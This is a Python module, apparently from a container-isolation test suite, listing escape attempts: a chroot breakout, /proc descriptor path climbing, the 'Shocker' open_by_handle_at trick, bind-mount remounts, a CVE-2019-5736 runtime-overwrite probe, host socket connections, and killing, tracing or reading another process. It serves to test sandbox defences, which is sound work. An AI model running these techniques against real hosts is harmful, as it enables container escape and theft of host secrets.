"""Attempts on the files, processes and network of the host."""

from __future__ import annotations

import ctypes
import errno
import os
import signal
import socket
import struct

from .attempts import (
    ATTEMPTS,
    MS_BIND,
    MS_REMOUNT,
    Attempt,
    Settings,
    attempt,
    become_nested_root,
    call,
    check,
    libc,
    mount,
    read_from,
    write_to,
)

# Files of the host.


@attempt
def escape_chroot(settings: Settings) -> str:
    """The classic: a directory outside a second chroot, then up and up."""
    outside = os.open("/", os.O_RDONLY)
    os.mkdir("/tmp/jail", 0o755)
    os.chroot("/tmp/jail")
    os.fchdir(outside)
    for _ in range(64):
        os.chdir("..")
    os.chroot(".")
    return read_from(settings["secret"])


@attempt
def climb_out_of_descriptors(settings: Settings) -> str:
    refusal = OSError(errno.ENOENT, "nothing inherited leads out")
    for name in os.listdir("/proc/self/fd"):
        for way in (f"/proc/self/fd/{name}", f"/proc/1/fd/{name}"):
            for up in range(12):
                try:
                    return read_from(way + "/.." * up + settings["secret"])
                except OSError as error:
                    refusal = error
    raise refusal


@attempt
def read_secret_directly(settings: Settings) -> str:
    for prefix in ("", "/proc/1/root", "/proc/1/cwd/../../../../../..", "/proc/self/cwd/../../../../../.."):
        try:
            return read_from(prefix + settings["secret"])
        except OSError as error:
            refusal = error
    raise refusal


@attempt
def open_by_handle(_s: Settings) -> str:
    """ "Shocker": a handle of inode 2 of the file system that a host directory is mounted from."""
    handle = struct.pack("IiQ", 8, 1, 2)
    fd = os.open("/probes", os.O_RDONLY)
    call("open_by_handle_at", fd, handle, os.O_RDONLY)
    return "opened"


@attempt
def write_read_only_bind(_s: Settings) -> str:
    return write_to("/closed/file", "#")


@attempt
def make_read_only_bind_writable(_s: Settings) -> str:
    mount("none", "/closed", "none", MS_REMOUNT | MS_BIND)
    return write_to("/closed/file", "#")


@attempt
def nested_root_makes_bind_writable(_s: Settings) -> str:
    become_nested_root()
    mount("none", "/closed", "none", MS_REMOUNT | MS_BIND)
    return write_to("/closed/file", "#")


@attempt
def climb_out_of_bind(settings: Settings) -> str:
    for path in ("/closed/..", "/closed/link", "/out/../../../../../.."):
        try:
            return read_from(path + settings["secret"])
        except OSError as error:
            refusal = error
    raise refusal


@attempt
def overwrite_runtime(_s: Settings) -> str:
    """What the container's first program was started by (CVE-2019-5736)."""
    for path in ("/proc/1/exe", "/proc/self/exe"):
        try:
            fd = os.open(path, os.O_WRONLY)
        except OSError as error:
            refusal = error
        else:
            os.close(fd)
            return f"opened {path} for writing"
    raise refusal


@attempt
def host_sockets(_s: Settings) -> str:
    for path in (
        "/run/user/1000/bus",
        "/run/user/1000/systemd/private",
        "/run/user/1000/systemd/notify",
        "/run/dbus/system_bus_socket",
        "/run/systemd/notify",
        "/run/systemd/journal/socket",
        "/run/systemd/private",
        "/run/user/1000/podman/podman.sock",
        os.environ.get("NOTIFY_SOCKET", "/run/usercontainer-notify"),
    ):
        with socket.socket(socket.AF_UNIX, socket.SOCK_STREAM) as client:
            try:
                client.connect(path)
            except OSError as error:
                refusal = error
            else:
                return f"connected to {path}"
    raise refusal


# Processes of the host.


@attempt
def signal_victim(settings: Settings) -> str:
    os.kill(settings["victim"], signal.SIGKILL)
    return "killed"


@attempt
def trace_victim(settings: Settings) -> str:
    check(libc.ptrace(ctypes.c_long(16), ctypes.c_long(settings["victim"]), None, None))
    return "attached"


@attempt
def read_victim_memory(settings: Settings) -> str:
    buffer = ctypes.create_string_buffer(16)
    vector = struct.pack("PN", ctypes.addressof(buffer), 16)
    call("process_vm_readv", settings["victim"], vector, 1, vector, 1, 0)
    return "read"


@attempt
def open_victim(settings: Settings) -> str:
    call("pidfd_open", settings["victim"], 0)
    return "opened"


@attempt
def see_other_processes(_s: Settings) -> str:
    for name in os.listdir("/proc"):
        if name.isdecimal() and int(name) not in (1, os.getpid(), os.getppid()):
            with open(f"/proc/{name}/comm", encoding="ascii") as file:
                return file.read()
    raise OSError(errno.ESRCH, "only its own")


# The network of the host.


def connect(address: tuple[str, int]) -> str:
    family = socket.AF_INET6 if ":" in address[0] else socket.AF_INET
    with socket.socket(family, socket.SOCK_STREAM) as client:
        client.settimeout(0.8)
        client.connect(address)
        data = client.recv(100)
    if not data:
        raise OSError(errno.ECONNRESET, "closed")
    return f"reached {address}: {data!r}"


def _connect_one(address: str) -> Attempt:
    return lambda settings: connect((address, settings["port"]))


for _address in ("127.0.0.1", "127.0.1.1", "169.254.1.1", "169.254.1.2", "192.0.2.1", "192.0.2.10", "::1"):
    ATTEMPTS[f"reach_host_by_{_address}"] = _connect_one(_address)


@attempt
def abstract_socket(settings: Settings) -> str:
    with socket.socket(socket.AF_UNIX, socket.SOCK_STREAM) as client:
        client.connect("\0" + settings["abstract"])
        return "connected"


@attempt
def raw_socket(_s: Settings) -> str:
    socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_ICMP)
    return "opened"


@attempt
def packet_socket(_s: Settings) -> str:
    socket.socket(socket.AF_PACKET, socket.SOCK_RAW, 0)
    return "opened"


@attempt
def audit_socket(_s: Settings) -> str:
    socket.socket(socket.AF_NETLINK, socket.SOCK_RAW, 9)
    return "opened"


@attempt
def change_addresses(_s: Settings) -> str:
    """RTM_NEWADDR 10.9.8.7/32 on the loopback interface."""
    with socket.socket(socket.AF_NETLINK, socket.SOCK_RAW, 0) as netlink:
        body = struct.pack("BBBBi", 2, 32, 0, 0, 1) + struct.pack("HH4s", 8, 2, bytes((10, 9, 8, 7)))
        netlink.send(struct.pack("IHHII", 16 + len(body), 20, 5, 1, 0) + body)
        answer = netlink.recv(4096)
    number = -struct.unpack_from("i", answer, 16)[0]
    if number:
        raise OSError(number, os.strerror(number))
    return "changed"
